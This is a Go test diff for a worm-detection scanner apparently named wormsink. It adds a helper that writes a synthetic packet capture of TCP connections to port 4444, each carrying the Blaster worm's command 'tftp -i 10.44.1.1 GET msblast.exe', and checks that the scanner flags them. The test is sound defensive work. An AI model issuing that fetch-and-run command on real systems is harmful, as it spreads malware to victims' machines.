@@ -4,11 +4,18 @@ import (
 	"bytes"
 	"compress/gzip"
 	"context"
+	"encoding/binary"
 	"fmt"
 	"os"
 	"path/filepath"
 	"reflect"
+	"strings"
 	"testing"
+	"time"
+
+	"github.com/gopacket/gopacket"
+	"github.com/gopacket/gopacket/layers"
+	"github.com/gopacket/gopacket/pcapgo"
 
 	"wormsink/internal/evidencetest"
 	"wormsink/signatures"
@@ -104,6 +111,14 @@ func TestParallelScanSameAsOneCore(t *testing.T) {
 	if len(files) < 20 {
 		t.Fatalf("only %d captures in testdata", len(files))
 	}
+	hs := filepath.Join(t.TempDir(), "handshakes.pcap")
+	writeHandshakes(t, hs)
+	hsData, err := os.ReadFile(hs)
+	if err != nil {
+		t.Fatal(err)
+	}
+	files = append(files, hsData)
+	names = append(names, "handshakes.pcap")
 	mixed := filepath.Join(t.TempDir(), "mixed.pcap")
 	writeMixed(t, mixed, 8_000)
 	replay := filepath.Join(t.TempDir(), "replay.pcap")
@@ -129,12 +144,83 @@ func TestParallelScanSameAsOneCore(t *testing.T) {
 			if len(one.events) < 60 {
 				t.Fatalf("only %d events: the inputs are too tame", len(one.events))
 			}
+			proofs := map[string]int{}
+			for _, e := range one.events {
+				if strings.Contains(e, "handshakes.pcap") {
+					proofs[e[strings.Index(e, "Proof:"):][:8]]++
+				}
+			}
+			if len(proofs) < 2 {
+				t.Fatalf("the handshake capture gives proofs %v: want both tcp and datagram", proofs)
+			}
 			sameScan(t, fmt.Sprintf("chunks of %d packets/%d bytes, %d workers", c.packets, c.bytes, n), one, par)
 			if c.packets != 3 {
 				continue
 			}
 			one, par = scanBoth(t, files, names, n, Options{AnyPort: true, FragDatagrams: 2})
 			sameScan(t, fmt.Sprintf("any port, 2 datagrams: chunks of %d packets/%d bytes, %d workers", c.packets, c.bytes, n), one, par)
+		}
+	}
+}
+
+// writeHandshakes writes 60 TCP connections to port 4444, interleaved,
+// each carrying Blaster's shell command: two in three after a complete
+// handshake (proof tcp), the rest lone segments (proof datagram).
+func writeHandshakes(t testing.TB, path string) {
+	f, err := os.Create(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	w := pcapgo.NewWriter(f)
+	if err := w.WriteFileHeader(65536, layers.LinkTypeEthernet); err != nil {
+		t.Fatal(err)
+	}
+	seg := func(client byte, fromServer bool, flags byte, seq, ack uint32, payload []byte) []byte {
+		tcp := tcpRaw(4444, payload)
+		cport := uint16(40000 + uint16(client))
+		binary.BigEndian.PutUint16(tcp[0:], cport)
+		if fromServer {
+			binary.BigEndian.PutUint16(tcp[0:], 4444)
+			binary.BigEndian.PutUint16(tcp[2:], cport)
+		}
+		binary.BigEndian.PutUint32(tcp[4:], seq)
+		binary.BigEndian.PutUint32(tcp[8:], ack)
+		tcp[13] = flags
+		ip := ip4Raw(protoTCP, tcp)
+		c, srv := []byte{10, 44, 0, client}, []byte{10, 44, 1, 1}
+		if fromServer {
+			c, srv = srv, c
+		}
+		copy(ip[12:], c)
+		copy(ip[16:], srv)
+		return ethRaw(nil, 0x0800, ip)
+	}
+	var steps [][][]byte
+	for i := range 60 {
+		cmd := []byte(fmt.Sprintf("tftp -i 10.44.1.1 GET msblast.exe %d\r\n", i))
+		c := byte(i + 1)
+		if i%3 == 2 {
+			steps = append(steps, [][]byte{seg(c, false, 0x18, 101, 501, cmd)})
+			continue
+		}
+		steps = append(steps, [][]byte{seg(c, false, 0x02, 100, 0, nil), seg(c, true, 0x12, 500, 101, nil),
+			seg(c, false, 0x10, 101, 501, nil), seg(c, false, 0x18, 101, 501, cmd)})
+	}
+	ts := baseTime
+	for round := 0; ; round++ {
+		wrote := false
+		for _, st := range steps {
+			if round < len(st) {
+				ts = ts.Add(time.Millisecond)
+				if err := w.WritePacket(gopacket.CaptureInfo{Timestamp: ts, CaptureLength: len(st[round]), Length: len(st[round])}, st[round]); err != nil {
+					t.Fatal(err)
+				}
+				wrote = true
+			}
+		}
+		if !wrote {
+			return
 		}
 	}
 }
